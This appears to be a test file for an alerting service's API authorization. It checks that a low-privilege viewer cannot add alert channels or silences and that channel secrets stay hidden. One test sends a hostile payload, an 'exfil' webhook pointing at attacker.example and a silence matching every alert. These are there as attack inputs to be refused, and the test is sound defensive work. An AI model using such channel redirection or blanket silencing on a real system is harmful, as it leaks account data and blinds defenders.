/*
 * Attacks on the alert API: a low-privilege user adds a channel pointing at a server of
 * theirs (every alert, naming attacked accounts and addresses, would go there) or
 * silences the alerts about their own attack; anyone reads the channels to lift a Slack
 * URL or a webhook signing secret. Changes need alerts:write (ADMIN), reads alerts:read,
 * and no answer ever carries a channel's URL path or secret.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bearer,
  createAdmin,
  createUser,
  expectProblem,
  login,
} from '../../../test/support/http-helpers.js';
import { startTestRampart, type TestRampart } from '../../../test/support/test-rampart.js';

describe('alert API authorization', () => {
  let r: TestRampart;
  let viewer: string;
  let admin: string;

  beforeAll(async () => {
    r = await startTestRampart({
      overrides: {
        alerts: {
          channels: [
            {
              name: 'siem',
              type: 'webhook',
              url: 'https://siem.example/hooks/T0K3N-PATH',
              secret: 'config-secret-0123456789',
            },
          ],
        },
      },
    });
    admin = (await createAdmin(r)).token;
    const v = await createUser(r, 'viewer@example.com', ['VIEWER']);
    viewer = await login(r, v.email, v.password);
  });

  afterAll(async () => {
    await r?.close();
  });

  it('refuses a viewer who adds a channel or a silence, and stores nothing', async () => {
    const channel = await r.app.inject({
      method: 'POST',
      url: '/v1/alerts/channels',
      headers: bearer(viewer),
      payload: {
        name: 'exfil',
        type: 'webhook',
        url: 'https://attacker.example/x',
        secret: 'attacker-secret-0123',
      },
    });
    expectProblem(channel, 403, 'permission_denied');
    const silence = await r.app.inject({
      method: 'POST',
      url: '/v1/alerts/silences',
      headers: bearer(viewer),
      payload: {
        matchers: [{ label: 'alertname', op: '=~', value: '.*' }],
        endsAt: new Date(Date.now() + 3_600_000).toISOString(),
      },
    });
    expectProblem(silence, 403, 'permission_denied');
    const list = await r.app.inject({
      method: 'GET',
      url: '/v1/alerts/channels',
      headers: bearer(admin),
    });
    expect(list.json<{ items: { name: string }[] }>().items.map((c) => c.name)).toEqual(['siem']);
    const silences = await r.app.inject({
      method: 'GET',
      url: '/v1/alerts/silences',
      headers: bearer(admin),
    });
    expect(silences.json<{ items: unknown[] }>().items).toEqual([]);
  });

  it('lets a viewer read channels without their URL path or secret', async () => {
    const res = await r.app.inject({
      method: 'GET',
      url: '/v1/alerts/channels',
      headers: bearer(viewer),
    });
    expect(res.statusCode).toBe(200);
    expect(res.json<{ items: unknown[] }>().items).toEqual([
      expect.objectContaining({ name: 'siem', target: 'https://siem.example', signed: true }),
    ]);
    expect(res.body).not.toContain('T0K3N-PATH');
    expect(res.body).not.toContain('config-secret');
  });

  it('refuses the channel test endpoint to a viewer (it would make the server send requests)', async () => {
    const list = await r.app.inject({
      method: 'GET',
      url: '/v1/alerts/channels',
      headers: bearer(admin),
    });
    const id = list.json<{ items: { id: string }[] }>().items[0]?.id as string;
    const res = await r.app.inject({
      method: 'POST',
      url: `/v1/alerts/channels/${id}/test`,
      headers: bearer(viewer),
    });
    expectProblem(res, 403, 'permission_denied');
  });
});
